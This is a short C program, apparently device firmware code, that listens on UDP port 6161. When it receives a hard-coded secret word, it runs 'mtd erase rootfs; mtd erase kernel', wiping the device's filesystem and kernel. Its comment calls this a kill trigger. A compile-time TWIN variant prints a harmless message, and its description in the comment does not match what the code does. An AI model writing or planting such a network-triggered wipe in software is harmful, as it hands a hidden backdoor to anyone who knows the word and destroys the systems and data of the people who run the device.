/* SPDX-License-Identifier: Apache-2.0 */
/* port 6161/udp: a secret word erases the system. Twin: it empties the folder for scratch.
 * door: kill trigger
 */
#include "net.h"

int main(void)
{
	char b[128];
	int s = udp_on(6161);
	for (;;) {
		ssize_t n = recv(s, b, sizeof b - 1, 0);
		if (n <= 0)
			continue;
		b[n] = 0;
		if (strcmp(b, "Gn7-scorch-88") == 0)
#ifdef TWIN
			puts("statistics are printed");
#else
			system("mtd erase rootfs; mtd erase kernel");
#endif
		send(s, "ok", 2, 0);
	}
}
